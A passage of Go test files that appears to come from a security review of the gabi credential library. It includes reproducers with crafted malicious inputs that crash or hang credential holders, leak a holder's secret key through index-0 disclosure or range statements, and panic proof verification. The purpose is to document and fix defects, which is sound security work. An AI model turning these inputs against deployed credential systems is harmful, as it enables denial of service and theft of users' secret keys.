		path := filepath.Join(dir, "pk"+map[bool]string{false: "0", true: "1"}[force]+".xml")
		if _, err := pk.WriteToFile(path, force); err != nil {
			t.Fatal(err)
		}
		fi, _ := os.Stat(path)
		if fi.Mode().Perm() != 0644 {
			t.Errorf("PublicKey.WriteToFile(force=%v) under umask 077: mode %v, the code comment promises 0644 independent of the umask", force, fi.Mode().Perm())
		}
	}
	// private key: group/other bits must never appear; owner bits under umask 0277
	syscall.Umask(0277)
	sk, _ := gabikeys.NewPrivateKeyFromXML(xmlPrivKey1, false)
	for _, force := range []bool{false, true} {
		path := filepath.Join(dir, "sk"+map[bool]string{false: "0", true: "1"}[force]+".xml")
		if _, err := sk.WriteToFile(path, force); err != nil {
			t.Errorf("PrivateKey.WriteToFile(force=%v) under umask 0277: %v", force, err)
			continue
		}
		fi, _ := os.Stat(path)
		t.Logf("PrivateKey.WriteToFile(force=%v) under umask 0277: mode %v", force, fi.Mode().Perm())
	}
}

func TestHuntWriteToFileByteCount(t *testing.T) {
	dir := t.TempDir()
	sk, _ := gabikeys.NewPrivateKeyFromXML(xmlPrivKey1, false)
	path := filepath.Join(dir, "sk.xml")
	os.WriteFile(path, bytes.Repeat([]byte("x"), 100000), 0644)
	n, err := sk.WriteToFile(path, true)
	if err != nil {
		t.Fatal(err)
	}
	fi, _ := os.Stat(path)
	if fi.Size() != n {
		t.Errorf("byte count %d, file size %d", n, fi.Size())
	}
}

func TestHuntMarshalByValue(t *testing.T) {
	pk, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	b, err := xml.Marshal(*pk) // by value: Bases/EpochLength marshalers have pointer receivers
	if err != nil {
		t.Logf("marshal by value refused: %v", err)
		return
	}
	if _, err := gabikeys.NewPublicKeyFromBytes(b); err != nil {
		t.Errorf("xml.Marshal(*pk) succeeds but produces a document the reader refuses: %v\n%s", err, regexp.MustCompile(`\d{20,}`).ReplaceAllString(string(b), "N"))
	}
}

// a 1021-bit safe prime (made with safeprime.GenerateConcurrent(1021, ...))
const bigSafePrime = "21922322116986303761609723686901452776227431626696776562515901713561066364843965903587693240224695939738271832273236484258701372968969871047543928031898869114737321372698586914467319800536452028777025156270242759132870404411825947492826531820419471330486203103876384342097426365198855630434498384775416402199"

func TestHuntPrivateKeyTinyFactor(t *testing.T) {
	q := s2big(bigSafePrime)
	for _, p := range []int64{5, 7, 11} {
		doc := replaceElem(xmlPrivKey1, "p", big.NewInt(p).String())
		doc = replaceElem(doc, "pPrime", big.NewInt((p-1)/2).String())
		doc = replaceElem(doc, "q", q.String())
		doc = replaceElem(doc, "qPrime", new(big.Int).Rsh(q, 1).String())
		sk, err := gabikeys.NewPrivateKeyFromXML(doc, false)
		if err == nil {
			t.Errorf("private key with p = %d and a %d-bit q accepted outside demo mode (n has %d bits)", p, q.BitLen(), sk.N.BitLen())
		} else {
			t.Logf("p=%d: %v", p, err)
		}
	}
}
