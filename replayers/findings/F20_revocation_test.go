package revocation

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/require"
)

// F20: a witness that was stored and loaded again (JSON) has no cached accumulator (the field is not serialised).
// Witness.Update reads it without going through UnmarshalVerify and panics with a nil dereference.
func TestF20(t *testing.T) {
	sk, pk := generateKeys(t)
	update0, err := NewAccumulator(sk)
	require.NoError(t, err)
	acc0 := update0.SignedAccumulator.Accumulator
	w, err := RandomWitness(sk, acc0)
	require.NoError(t, err)
	w.SignedAccumulator = update0.SignedAccumulator

	bts, err := json.Marshal(w)
	require.NoError(t, err)
	loaded := &Witness{}
	require.NoError(t, json.Unmarshal(bts, loaded))

	acc1, ev1 := revoke(t, acc0, update0.Events[0], sk) // somebody else is revoked
	up1, err := NewUpdate(sk, acc1, []*Event{update0.Events[0], ev1})
	require.NoError(t, err)

	defer func() {
		if r := recover(); r != nil {
			t.Errorf("Witness.Update on a freshly loaded witness panicked: %v", r)
		}
	}()
	require.NoError(t, loaded.Update(pk, up1))
	require.NoError(t, loaded.Verify(pk))
}
