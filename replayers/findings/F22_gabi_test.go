package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
)

// F22: KeyshareUserResponseRequest does not put the context into the second message, and the server assumes
// context 1 when it is absent: for every other context the two sides compute different challenges and the joint
// proof cannot be completed. (The existing keyshare tests all run with context 1.)
func TestF22(t *testing.T) {
	saved := context
	context = big.NewInt(2)
	defer func() { context = saved }()
	TestKeyshareResponse(t)
}
