package big

import (
	"encoding"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"strings"
	"testing"

	"github.com/fxamacker/cbor"
)

func recoverInto(p *any) {
	if r := recover(); r != nil {
		*p = r
	}
}

// JSON strings may contain escape sequences; "\/" (PHP json_encode default) and the u-escape of = are legal
// encodings of '/' and '='. UnmarshalJSON feeds the raw token to base64.
func TestHuntJSONEscapedString(t *testing.T) {
	// 0xffff = "//8=" in std base64
	var want Int
	want.SetInt64(0xffff)
	enc, _ := json.Marshal(&want)
	if string(enc) != `"//8="` {
		t.Fatalf("unexpected encoding %s", enc)
	}
	for _, in := range []string{`"\/\/8="`, `"//8` + "\\" + `u003d"`, `"//8="`} {
		// sanity: the standard library reads it as the same string
		var s string
		if err := json.Unmarshal([]byte(in), &s); err != nil || s != "//8=" {
			t.Fatalf("test input wrong: %v %q", err, s)
		}
		var got Int
		err := json.Unmarshal([]byte(in), &got)
		if err != nil {
			t.Errorf("well-formed JSON %s (the string //8=) refused: %v", in, err)
			continue
		}
		if got.Cmp(&want) != 0 {
			t.Errorf("JSON %s decoded as %v, want %v", in, &got, &want)
		}
	}
}

func TestHuntJSONDirectCallPanics(t *testing.T) {
	for _, in := range []string{``, `"`} {
		var pan any
		func() {
			defer recoverInto(&pan)
			var i Int
			err := i.UnmarshalJSON([]byte(in))
			t.Logf("%q: err=%v", in, err)
		}()
		if pan != nil {
			t.Errorf("UnmarshalJSON(%q) panics: %v", in, pan)
		}
	}
}

func TestHuntJSONDirectNonDecimal(t *testing.T) {
	// the unquoted branch is documented as "JSON base 10 big integer"
	for _, in := range []string{`0x10`, `0b11`, `0o17`, `1_000`, `+5`, `010`} {
		var i Int
		err := i.UnmarshalJSON([]byte(in))
		if err == nil {
			t.Errorf("UnmarshalJSON(%s) accepted as %v (not a JSON base 10 integer)", in, &i)
		}
	}
}

func TestHuntJSONNumbers(t *testing.T) {
	for _, c := range []struct {
		in   string
		ok   bool
		want string
	}{
		{`0`, true, "0"}, {`-0`, true, "0"}, {`5`, true, "5"}, {`-5`, false, ""}, {`1e2`, false, ""}, {`1.0`, false, ""},
		{`123456789012345678901234567890123456789012345678901234567890`, true, "123456789012345678901234567890123456789012345678901234567890"},
		{`""`, true, "0"}, {`"AA=="`, true, "0"}, {`"AAE="`, true, "1"}, {`"AQ"`, false, ""}, {`"AQ=="`, true, "1"}, {`"!!!!"`, false, ""},
		{`true`, false, ""}, {`{}`, false, ""}, {`[]`, false, ""}, {`[1]`, false, ""},
	} {
		i := NewInt(77)
		err := json.Unmarshal([]byte(c.in), i)
		if (err == nil) != c.ok {
			t.Errorf("%s: err=%v, expected ok=%v (value %v)", c.in, err, c.ok, i)
			continue
		}
		if c.ok && i.String() != c.want {
			t.Errorf("%s: got %v want %s", c.in, i, c.want)
		}
		if !c.ok && i.String() != "77" {
			t.Errorf("%s: refused (%v) but receiver changed from 77 to %v", c.in, err, i)
		}
	}
}

func TestHuntJSONNull(t *testing.T) {
	i := NewInt(77)
	err := json.Unmarshal([]byte(`null`), i)
	t.Logf("null into *Int: err=%v value=%v", err, i)
	var s struct{ A *Int }
	s.A = NewInt(5)
	err = json.Unmarshal([]byte(`{"A":null}`), &s)
	t.Logf("null into field: err=%v value=%v", err, s.A)
}

func TestHuntJSONRoundTrip(t *testing.T) {
	vals := []*Int{NewInt(0), NewInt(1), NewInt(255), NewInt(256), new(Int).Lsh(NewInt(1), 4096), new(Int).Sub(new(Int).Lsh(NewInt(1), 4096), NewInt(1))}
	for _, v := range vals {
		b, err := json.Marshal(v)
		if err != nil {
			t.Errorf("marshal %v: %v", v, err)
			continue
		}
		var w Int
		if err := json.Unmarshal(b, &w); err != nil || w.Cmp(v) != 0 {
			t.Errorf("round trip %v -> %s -> %v (%v)", v, b, &w, err)
		}
	}
	// value (non-pointer) field
	type S struct{ A Int }
	var s S
	s.A.SetInt64(5)
	b, err := json.Marshal(s)
	if err != nil || string(b) != `{"A":"BQ=="}` {
		t.Errorf("json.Marshal of a struct with a non-pointer Int field gives %s (%v), want {\"A\":\"BQ==\"}", b, err)
	}
	b, err = json.Marshal(&s)
	t.Logf("pointer to struct: %s %v", b, err)
}

func TestHuntNegativeBinaryLosesSign(t *testing.T) {
	v := NewInt(-5)
	b, err := v.MarshalBinary()
	if err != nil {
		return // refused like MarshalText: fine
	}
	var w Int
	if err := w.UnmarshalBinary(b); err != nil {
		t.Fatal(err)
	}
	if w.Cmp(v) != 0 {
		t.Errorf("MarshalBinary(-5) succeeds (MarshalText refuses negatives) and round-trips to %v", &w)
	}
}

func TestHuntCBORRoundTrip(t *testing.T) {
	vals := []*Int{NewInt(0), NewInt(1), NewInt(255), NewInt(256), new(Int).Lsh(NewInt(1), 4096), NewInt(-5)}
	for _, v := range vals {
		b, err := cbor.Marshal(v, cbor.EncOptions{})
		if err != nil {
			t.Logf("cbor marshal %v: %v", v, err)
			continue
		}
		w := NewInt(99)
		if err := cbor.Unmarshal(b, w); err != nil {
			t.Errorf("cbor unmarshal %x of %v: %v", b, v, err)
			continue
		}
		if w.Cmp(v) != 0 {
			t.Errorf("cbor round trip %v -> %x -> %v", v, b, w)
		}
	}
	// in a struct, with nil
	type S struct {
		A *Int
		B *Int
	}
	s := S{A: NewInt(0)}
	b, err := cbor.Marshal(s, cbor.EncOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var s2 S
	if err := cbor.Unmarshal(b, &s2); err != nil {
		t.Fatal(err)
	}
	if s2.A == nil || s2.A.Sign() != 0 || s2.B != nil {
		t.Errorf("cbor struct round trip: %x -> A=%v B=%v", b, s2.A, s2.B)
	}
	// a CBOR integer (not a byte string) into *Int
	bi, _ := cbor.Marshal(uint64(5), cbor.EncOptions{})
	w := NewInt(99)
	err = cbor.Unmarshal(bi, w)
	t.Logf("cbor uint into *Int: err=%v value=%v", err, w)
	if err == nil && w.Cmp(NewInt(5)) != 0 {
		t.Errorf("cbor unsigned 5 accepted but decoded as %v", w)
	}
	// CBOR bignum tag 2
	tag := []byte{0xc2, 0x41, 0x05}
	w = NewInt(99)
	err = cbor.Unmarshal(tag, w)
	t.Logf("cbor bignum tag into *Int: err=%v value=%v", err, w)
	// CBOR text string
	txt := []byte{0x61, 0x05}
	w = NewInt(99)
	err = cbor.Unmarshal(txt, w)
	t.Logf("cbor text string into *Int: err=%v value=%v", err, w)
	if err == nil && w.Cmp(NewInt(99)) != 0 {
		t.Errorf("cbor text string accepted as number %v", w)
	}
}

func TestHuntTextRoundTrip(t *testing.T) {
	var i any = NewInt(5)
	if _, ok := i.(encoding.TextMarshaler); !ok {
		t.Skip("no TextMarshaler")
	}
	if _, ok := i.(encoding.TextUnmarshaler); !ok {
		t.Errorf("*Int implements encoding.TextMarshaler but not encoding.TextUnmarshaler: text encodings cannot be read back")
	}
}

func TestHuntXMLAttrRoundTrip(t *testing.T) {
	type S struct {
		XMLName xml.Name `xml:"s"`
		A       *Int     `xml:"a,attr"`
	}
	b, err := xml.Marshal(S{A: NewInt(5)})
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	var s S
	err = xml.Unmarshal(b, &s)
	if err != nil || s.A == nil || s.A.Cmp(NewInt(5)) != 0 {
		t.Errorf("XML attribute round trip: %s -> %v (err %v)", b, s.A, err)
	}
}

func TestHuntJSONMapKey(t *testing.T) {
	// map with *Int values is fine; TextMarshaler keys
	m := map[string]*Int{"a": NewInt(5)}
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	var m2 map[string]*Int
	if err := json.Unmarshal(b, &m2); err != nil || m2["a"].Cmp(NewInt(5)) != 0 {
		t.Errorf("map round trip: %s %v", b, err)
	}
}

type xmlDoc struct {
	XMLName xml.Name `xml:"d"`
	N       *Int     `xml:"n"`
}

func TestHuntXMLForms(t *testing.T) {
	for _, c := range []struct {
		in   string
		ok   bool
		want string
	}{
		{`<d><n>5</n></d>`, true, "5"},
		{`<d><n> 5 </n></d>`, true, "5"},
		{"<d><n>\n   5\n</n></d>", true, "5"},
		{`<d><n>005</n></d>`, true, "5"},
		{`<d><n>+5</n></d>`, false, ""},
		{`<d><n>-0</n></d>`, false, ""},
		{`<d><n>-5</n></d>`, false, ""},
		{`<d><n>0x10</n></d>`, false, ""},
		{`<d><n>1_0</n></d>`, false, ""},
		{`<d><n></n></d>`, false, ""},
		{`<d><n/></d>`, false, ""},
		{`<d><n>1<x>2</x>3</n></d>`, false, ""},
		{`<d><n>1<!-- c -->3</n></d>`, true, "13"},
		{`<d><n><![CDATA[7]]></n></d>`, true, "7"},
		{`<d><n>&#55;</n></d>`, true, "7"},
		{`<d><n>５</n></d>`, false, ""}, // fullwidth digit
		{`<d><n>5</n><n>6</n></d>`, false, ""},
	} {
		var d xmlDoc
		d.N = NewInt(77)
		err := xml.Unmarshal([]byte(c.in), &d)
		if (err == nil) != c.ok {
			t.Errorf("%q: err=%v value=%v, expected ok=%v", c.in, err, d.N, c.ok)
			continue
		}
		if c.ok && d.N.String() != c.want {
			t.Errorf("%q: got %v want %s", c.in, d.N, c.want)
		}
	}
}

func TestHuntXMLRoundTrip(t *testing.T) {
	for _, v := range []*Int{NewInt(0), NewInt(1), new(Int).Lsh(NewInt(1), 5000), NewInt(-3)} {
		b, err := xml.Marshal(xmlDoc{N: v})
		if err != nil {
			t.Logf("marshal %v refused: %v", v, err)
			continue
		}
		var d xmlDoc
		err = xml.Unmarshal(b, &d)
		if err != nil {
			t.Errorf("value %v: written as %s without error but refused on reading: %v", shortS(v), shortS(b), err)
			continue
		}
		if d.N.Cmp(v) != 0 {
			t.Errorf("xml round trip of %v gives %v", v, d.N)
		}
	}
}

func shortS(v any) string {
	s := fmt.Sprint(v)
	if b, ok := v.([]byte); ok {
		s = string(b)
	}
	if len(s) > 60 {
		return s[:60] + "..."
	}
	return s
}

func TestHuntXMLErrorLeavesValue(t *testing.T) {
	var d xmlDoc
	d.N = NewInt(77)
	err := xml.Unmarshal([]byte(`<d><n>-5</n></d>`), &d)
	if err == nil {
		t.Fatal("accepted")
	}
	if d.N.String() != "77" {
		t.Errorf("negative XML number refused (%v) but the receiver now holds %v", err, d.N)
	}
}

func TestHuntRandIntNonPositive(t *testing.T) {
	for _, m := range []int64{0, -1} {
		var pan any
		func() {
			defer recoverInto(&pan)
			RandInt(strings.NewReader("aaaaaaaaaaaaaaaa"), NewInt(m))
		}()
		t.Logf("RandInt(max=%d): panic=%v", m, pan)
	}
}

func TestHuntBase64Lenient(t *testing.T) {
	// non-canonical trailing bits and embedded newlines
	for _, in := range []string{`"AR=="`, `"AQ==\n"`, `"A\nQ=="`, `"AQ==AQ=="`} {
		var i Int
		err := json.Unmarshal([]byte(in), &i)
		t.Logf("%s: err=%v value=%v", in, err, &i)
	}
}
