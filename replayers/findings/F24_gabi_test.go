package gabi

// NOT the seed demonstration. This test FAILS on the UNCHANGED tree: it shows a place where the
// "verification never panics" property is already violated (see notes.md, "Pre-existing violation").
// Place as zz_unchanged_violation_test.go in the repository root (package gabi) and run
//   go test -vet=off -count=1 -v -run TestZZUnchangedNoSecretKeyResponse .

import (
	"encoding/json"
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/stretchr/testify/require"
)

// Two disclosure proofs over credentials whose secret key is 0, built with secret key randomizer 0, so that
// the secret key response is 0 and R_0^response = 1. Dropping the "0" entry from a_responses of the FIRST
// proof only leaves both proofs individually valid (checkStructure does not require index 0 to be present,
// and the reconstructed Z does not change). ProofList.Verify then stores SecretKeyResponse() == nil for the
// first proof and calls nil.Cmp(<0>) for the second one: nil pointer dereference.
func TestF24(t *testing.T) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce, _ := common.RandomBigInt(testPubK.Params.Lstatzk)

	attrs := append([]*big.Int{big.NewInt(0)}, testAttributes1...)
	mk := func() *Credential {
		sig, err := SignMessageBlock(testPrivK, testPubK, attrs)
		require.NoError(t, err)
		return &Credential{Signature: sig, Pk: testPubK, Attributes: attrs}
	}
	b1, err := mk().CreateDisclosureProofBuilder([]int{1, 2}, nil, false)
	require.NoError(t, err)
	b2, err := mk().CreateDisclosureProofBuilder([]int{1, 3}, nil, false)
	require.NoError(t, err)
	builders := ProofBuilderList{b1, b2}
	chal, err := builders.ChallengeWithRandomizers(context, nonce, map[string]*big.Int{"secretkey": big.NewInt(0)}, false)
	require.NoError(t, err)
	pl, err := builders.BuildDistributedProofList(chal, nil)
	require.NoError(t, err)
	pks := []*gabikeys.PublicKey{testPubK, testPubK}
	require.True(t, pl.Verify(pks, context, nonce, false, nil))

	// only the first proof loses its secret key response (deleting it from both gives verdict true, no panic,
	// because math/big's Cmp short-circuits on x == y, also for nil == nil)
	delete(pl[0].(*ProofD).AResponses, 0)

	bts, err := json.Marshal(pl)
	require.NoError(t, err)
	var pl2 ProofList
	require.NoError(t, json.Unmarshal(bts, &pl2))
	var verdict bool
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("ProofList.Verify panicked: %v", r)
			}
		}()
		verdict = pl2.Verify(pks, context, nonce, false, nil)
	}()
	t.Logf("verdict=%v", verdict)
}
