package gabikeys

import (
	"bytes"
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
	"github.com/stretchr/testify/require"
)

// F29: the repair of F9 refused every public key whose list of bases is empty (len(R) == 0), although the element is present
// in the document: a key with zero bases, written by this library, could no longer be read back. Only a document without a
// Bases element lacks a mandatory part.
func TestF29(t *testing.T) {
	n := new(big.Int).Lsh(big.NewInt(1), 1023)
	n.Add(n, big.NewInt(12345))
	pk, err := NewPublicKey(n, big.NewInt(4), big.NewInt(9), nil, nil, []*big.Int{}, "", 3, time.Unix(1900000000, 0))
	require.NoError(t, err)
	var buf bytes.Buffer
	_, err = pk.WriteTo(&buf)
	require.NoError(t, err)
	back, err := NewPublicKeyFromBytes(buf.Bytes())
	require.NoError(t, err, "a public key with zero bases is not read back")
	require.Equal(t, 0, len(back.R))
	require.Equal(t, 0, back.N.Cmp(n))

	// a document without the Bases element is still refused
	doc := bytes.Replace(buf.Bytes(), []byte(`<Bases num="0"></Bases>`), nil, 1)
	require.NotEqual(t, len(doc), buf.Len(), "test setup: Bases element not found in %s", buf.String())
	_, err = NewPublicKeyFromBytes(doc)
	require.Error(t, err, "a public key document without Bases element is accepted")
}
