// F42-F48: reproducers written by a reviewing sub-agent for the holder-side defects repaired in the commits listed in known_findings.json.
// Tests that still fail on the repaired tree document behaviour that was NOT changed (protocol-level observations: attribute shift
// through MUserResponses, unbounded ProofU responses, long attribute shown as its hash, legacy RemoveKeyshareP, incomplete stored
// credentials) or now fail because the attack is refused with an error (KeyshareChallengeOverwrite*).
package gabi

import (
	"encoding/json"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/rangeproof"
	"github.com/privacybydesign/gabi/revocation"
)

// huntRun runs fn in a goroutine, turning a panic into a reported value and a hang into hung == true.
func huntRun(timeout time.Duration, fn func()) (panicked any, hung bool) {
	done := make(chan any, 1)
	go func() {
		defer func() {
			r := recover()
			if r != nil {
				r = fmt.Sprintf("%v [at %s]", r, huntPanicSite())
			}
			done <- r
		}()
		fn()
	}()
	select {
	case p := <-done:
		return p, false
	case <-time.After(timeout):
		return nil, true
	}
}

// huntPanicSite names the innermost frames of the panicking goroutine that lie in gabi's non-test sources.
func huntPanicSite() string {
	pcs := make([]uintptr, 64)
	n := runtime.Callers(3, pcs)
	frames := runtime.CallersFrames(pcs[:n])
	var sites []string
	for {
		f, more := frames.Next()
		if strings.Contains(f.File, "hunt-gabi") && !strings.HasSuffix(f.File, "_test.go") && !strings.Contains(f.File, "/big/") {
			sites = append(sites, fmt.Sprintf("%s:%d", f.File[strings.Index(f.File, "hunt-gabi")+10:], f.Line))
			if len(sites) == 2 {
				break
			}
		}
		if !more {
			break
		}
	}
	return strings.Join(sites, " <- ")
}

func huntCred(t *testing.T) (*Credential, *big.Int, *big.Int, *big.Int) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	secret, _ := common.RandomBigInt(testPubK.Params.Lm - 1)
	cred := createCredential(t, context, secret, NewIssuer(testPrivK, testPubK, context))
	return cred, context, nonce, secret
}

func huntStatements(t *testing.T, js string) []*rangeproof.Statement {
	var stmts []*rangeproof.Statement
	if err := json.Unmarshal([]byte(js), &stmts); err != nil {
		t.Fatalf("request does not decode (not a finding): %v", err)
	}
	return stmts
}

// ---------------------------------------------------------------------------------------------------------------------
// (a) holder, data from the verifier
// ---------------------------------------------------------------------------------------------------------------------

// A statement without a bound decodes fine and makes the holder panic.
func TestHuntA_RangeStatementNilBound(t *testing.T) {
	cred, context, nonce, _ := huntCred(t)
	stmts := huntStatements(t, `[{"Sign":1,"Factor":1}]`)
	var err error
	p, hung := huntRun(20*time.Second, func() {
		_, err = cred.CreateDisclosureProof([]int{2}, map[int][]*rangeproof.Statement{1: stmts}, false, context, nonce)
	})
	if p != nil || hung {
		t.Errorf("MISBEHAVIOUR: statement without bound: panic=%v hung=%v", p, hung)
	} else {
		t.Logf("ok, err=%v", err)
	}
}

// A null entry in the list of statements decodes fine and makes the holder panic.
func TestHuntA_RangeStatementNullEntry(t *testing.T) {
	cred, context, nonce, _ := huntCred(t)
	stmts := huntStatements(t, `[null]`)
	var err error
	p, hung := huntRun(20*time.Second, func() {
		_, err = cred.CreateDisclosureProof([]int{2}, map[int][]*rangeproof.Statement{1: stmts}, false, context, nonce)
	})
	if p != nil || hung {
		t.Errorf("MISBEHAVIOUR: null statement: panic=%v hung=%v", p, hung)
	} else {
		t.Logf("ok, err=%v", err)
	}
}

// A range statement for an attribute index that the credential does not have.
func TestHuntA_RangeStatementIndexOutOfRange(t *testing.T) {
	for _, index := range []int{99, 5, -1} {
		cred, context, nonce, _ := huntCred(t)
		stmts := huntStatements(t, `[{"Sign":1,"Factor":1,"Bound":0}]`)
		var err error
		p, hung := huntRun(20*time.Second, func() {
			_, err = cred.CreateDisclosureProof([]int{2}, map[int][]*rangeproof.Statement{index: stmts}, false, context, nonce)
		})
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: range statement at index %d: panic=%v hung=%v", index, p, hung)
		} else {
			t.Logf("index %d ok, err=%v", index, err)
		}
	}
}

// A true statement "m <= 2^N" with a large N keeps the holder busy: the difference is split into four squares before
// its size is looked at.
func TestHuntA_RangeStatementHugeBoundHangs(t *testing.T) {
	cred, context, nonce, _ := huntCred(t)
	bound := new(big.Int).Lsh(big.NewInt(1), 20000)
	bound.Add(bound, big.NewInt(12345))
	bts, _ := json.Marshal(bound)
	stmts := huntStatements(t, fmt.Sprintf(`[{"Sign":-1,"Factor":1,"Bound":%s}]`, string(bts)))
	if stmts[0].Bound.Cmp(bound) != 0 {
		t.Fatal("decoding")
	}
	var err error
	start := time.Now()
	p, hung := huntRun(30*time.Second, func() {
		_, err = cred.CreateDisclosureProof([]int{2}, map[int][]*rangeproof.Statement{1: stmts}, false, context, nonce)
	})
	if p != nil || hung {
		t.Errorf("MISBEHAVIOUR: bound of %d bits (%d bytes of JSON): panic=%v hung=%v after %v", bound.BitLen(), len(bts), p, hung, time.Since(start))
	} else {
		t.Logf("ok after %v, err=%v", time.Since(start), err)
	}
}

// Indices to disclose that the credential does not have.
func TestHuntA_DisclosedIndexOutOfRange(t *testing.T) {
	for _, index := range []int{99, 5, -1} {
		cred, context, nonce, _ := huntCred(t)
		var err error
		p, hung := huntRun(20*time.Second, func() {
			_, err = cred.CreateDisclosureProof([]int{1, index}, nil, false, context, nonce)
		})
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: disclosing index %d: panic=%v hung=%v", index, p, hung)
		} else {
			t.Logf("index %d ok, err=%v", index, err)
		}
	}
}

// Index 0 in the list of attributes to disclose hands the holder's secret key to the verifier.
func TestHuntA_DisclosedIndexZeroRevealsSecret(t *testing.T) {
	cred, context, nonce, secret := huntCred(t)
	var proof *ProofD
	var err error
	p, hung := huntRun(20*time.Second, func() {
		proof, err = cred.CreateDisclosureProof([]int{0, 1}, nil, false, context, nonce)
	})
	if p != nil || hung {
		t.Fatalf("panic=%v hung=%v", p, hung)
	}
	if err != nil {
		t.Logf("ok, refused: %v", err)
		return
	}
	if proof.ADisclosed[0] != nil && proof.ADisclosed[0].Cmp(secret) == 0 {
		t.Errorf("MISBEHAVIOUR: the proof discloses the secret key in ADisclosed[0]")
	}
	bts, _ := json.Marshal(proof)
	var decoded ProofD
	_ = json.Unmarshal(bts, &decoded)
	if decoded.ADisclosed[0] != nil && decoded.ADisclosed[0].Cmp(secret) == 0 {
		t.Errorf("MISBEHAVIOUR: the secret key is in the JSON sent to the verifier")
	}
	// the same through the timestamp request
	b, err := cred.CreateDisclosureProofBuilder([]int{0, 1}, nil, false)
	if err == nil {
		_, disclosed := b.TimestampRequestContributions()
		if disclosed[0].Cmp(secret) == 0 {
			t.Errorf("MISBEHAVIOUR: TimestampRequestContributions contains the secret key")
		}
	}
}

// Range statements on index 0 make the holder prove inequalities about its secret key: every session leaks a bit (and a
// false statement is answered with an error, which leaks as well).
func TestHuntA_RangeStatementOnSecretKey(t *testing.T) {
	cred, context, nonce, secret := huntCred(t)
	bound := new(big.Int).Rsh(secret, 1) // secret >= secret/2
	stmts := []*rangeproof.Statement{{Sign: 1, Factor: 1, Bound: bound}}
	var proof *ProofD
	var err error
	p, hung := huntRun(20*time.Second, func() {
		proof, err = cred.CreateDisclosureProof([]int{1}, map[int][]*rangeproof.Statement{0: stmts}, false, context, nonce)
	})
	if p != nil || hung {
		t.Fatalf("panic=%v hung=%v", p, hung)
	}
	if err != nil {
		t.Logf("ok, refused: %v", err)
		return
	}
	ok := proof.Verify(testPubK, context, nonce, false)
	t.Errorf("MISBEHAVIOUR: holder produced a range proof about its secret key (secret >= %d bits bound); verifies=%v", bound.BitLen(), ok)
	// the false direction gives the other answer
	stmts = []*rangeproof.Statement{{Sign: 1, Factor: 1, Bound: new(big.Int).Lsh(secret, 1)}}
	_, err = cred.CreateDisclosureProof([]int{1}, map[int][]*rangeproof.Statement{0: stmts}, false, context, nonce)
	t.Logf("false statement about the secret key gives: %v", err)
}

// A range statement on an attribute that is longer than Lm (signed through its hash): the holder proves the statement
// over the raw value while the signature is over the hash; what comes out?
func TestHuntA_RangeStatementOnLongAttribute(t *testing.T) {
	long := new(big.Int).SetBytes([]byte("This is a very long attribute: its size of 132 bytes exceeds the maximum message length of all currently supported public key sizes."))
	attrs := []*big.Int{big.NewInt(1), big.NewInt(2), long}
	signature, err := SignMessageBlock(testPrivK, testPubK, attrs)
	if err != nil {
		t.Fatal(err)
	}
	cred := &Credential{Pk: testPubK, Attributes: attrs, Signature: signature}
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	// true over the raw value: raw >= raw - 5
	stmts := []*rangeproof.Statement{{Sign: 1, Factor: 1, Bound: new(big.Int).Sub(long, big.NewInt(5))}}
	var proof *ProofD
	p, hung := huntRun(20*time.Second, func() {
		proof, err = cred.CreateDisclosureProof([]int{1}, map[int][]*rangeproof.Statement{2: stmts}, false, context, nonce)
	})
	if p != nil || hung {
		t.Errorf("MISBEHAVIOUR: panic=%v hung=%v", p, hung)
		return
	}
	if err != nil {
		t.Logf("ok, refused: %v", err)
		return
	}
	if !proof.Verify(testPubK, context, nonce, false) {
		t.Errorf("MISBEHAVIOUR: holder returned, without error, a proof that does not verify (range proof over the raw value, signature over its hash)")
	} else {
		t.Errorf("MISBEHAVIOUR: proof verifies: a statement about the raw value is accepted for the hashed value")
	}
}

// Factor 0: "0*m >= 0".
func TestHuntA_RangeStatementFactorZero(t *testing.T) {
	cred, context, nonce, _ := huntCred(t)
	stmts := huntStatements(t, `[{"Sign":1,"Factor":0,"Bound":0}]`)
	var proof *ProofD
	var err error
	p, hung := huntRun(20*time.Second, func() {
		proof, err = cred.CreateDisclosureProof([]int{2}, map[int][]*rangeproof.Statement{1: stmts}, false, context, nonce)
	})
	if p != nil || hung {
		t.Errorf("MISBEHAVIOUR: panic=%v hung=%v", p, hung)
		return
	}
	if err != nil {
		t.Logf("ok, refused: %v", err)
		return
	}
	t.Logf("factor 0 gives a proof; verifies=%v (a true but empty statement)", proof.Verify(testPubK, context, nonce, false))
}

// Sign values other than 1 / -1, huge factors.
func TestHuntA_RangeStatementOddSignFactor(t *testing.T) {
	for _, js := range []string{
		`[{"Sign":0,"Factor":1,"Bound":0}]`,
		`[{"Sign":2,"Factor":1,"Bound":0}]`,
		`[{"Sign":-9223372036854775808,"Factor":1,"Bound":0}]`,
		`[{"Sign":1,"Factor":18446744073709551615,"Bound":0}]`,
		`[{"Sign":1,"Factor":9223372036854775807,"Bound":0}]`,
		`[{"Sign":-1,"Factor":9223372036854775807,"Bound":"/////////////////////////////////////////////////////w=="}]`,
	} {
		cred, context, nonce, _ := huntCred(t)
		stmts := huntStatements(t, js)
		var proof *ProofD
		var err error
		p, hung := huntRun(20*time.Second, func() {
